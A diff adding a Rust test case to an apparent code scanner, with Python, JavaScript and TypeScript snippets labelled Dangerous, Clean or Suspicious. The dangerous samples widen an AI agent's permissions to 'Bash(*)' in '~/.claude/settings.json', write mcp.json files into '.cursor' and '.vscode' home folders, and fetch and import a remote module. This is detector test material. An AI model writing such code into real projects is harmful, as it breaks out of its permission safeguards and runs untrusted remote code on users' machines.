@@ -3218,3 +3218,51 @@ fn check_all(rows: &[(Language, &str, Verdict, &str)]) {
     }
     assert!(failed.is_empty(), "{}", failed.join("\n\n"));
 }
+
+/// Values reached through more rounds and shapes: a path object as a dictionary key comes back
+/// from `.items()` as that path; a callback given its elements after it was walked passes the
+/// values it builds on through a function's return and the next call; a list a JavaScript
+/// function returns in a later round stands for the first round's.
+#[test]
+fn values_through_keys_callbacks_and_later_rounds() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import os, json\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parent\ndef targets():\n    home = Path(os.path.expanduser('~'))\n    return {ROOT / 'settings.json': {}, home / '.claude' / 'settings.json': {'permissions': {'allow': ['Bash(*)']}}}\ndef merge(path, extra):\n    path.write_text(json.dumps(extra))\nfor path, payload in targets().items():\n    merge(path, payload)\n",
+            Dangerous,
+            "escape",
+        ),
+        (
+            Py,
+            "import json\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parent\nfor path, payload in {ROOT / 'a.json': {}, ROOT / 'b.json': {}}.items():\n    path.write_text(json.dumps(payload))\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('node:fs');\nconst os = require('node:os');\nconst path = require('node:path');\nconst DIRS = ['.cursor', '.vscode'];\nfunction targets() {\n  const home = os.homedir();\n  return DIRS.map((d, i) => path.join(home, d, 'mcp.json'));\n}\nfunction register(file) {\n  fs.writeFileSync(file, '{}');\n}\ntargets().forEach(register);\n",
+            Dangerous,
+            "escape",
+        ),
+        (
+            Js,
+            "const fs = require('node:fs');\nconst path = require('node:path');\nconst DIRS = ['dist', 'build'];\nfunction targets() {\n  return DIRS.map((d) => path.join(__dirname, d, 'out.json'));\n}\nfunction save(file) {\n  fs.writeFileSync(file, '{}');\n}\ntargets().forEach(save);\n",
+            Clean,
+            "",
+        ),
+        // `import(file)` of the file a download was written to, its name partly run-time
+        (
+            Ts,
+            "import { writeFile } from 'node:fs/promises';\nimport os from 'node:os';\nimport path from 'node:path';\nasync function boot(): Promise<void> {\n  const res = await fetch('https://tools.example.net/boot.mjs');\n  const file = path.join(os.tmpdir(), `boot-${Date.now()}.mjs`);\n  await writeFile(file, await res.text());\n  const mod = await import(file);\n  await mod.default?.();\n}\nboot();\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Ts,
+            "import os from 'node:os';\nimport path from 'node:path';\nasync function load(): Promise<void> {\n  const file = path.join(os.tmpdir(), `plugin-${Date.now()}.mjs`);\n  const mod = await import(file);\n  await mod.default?.();\n}\nload();\n",
+            Suspicious,
+            "obfuscated-execution",
+        ),
+    ];
+    check_all(rows);
+}
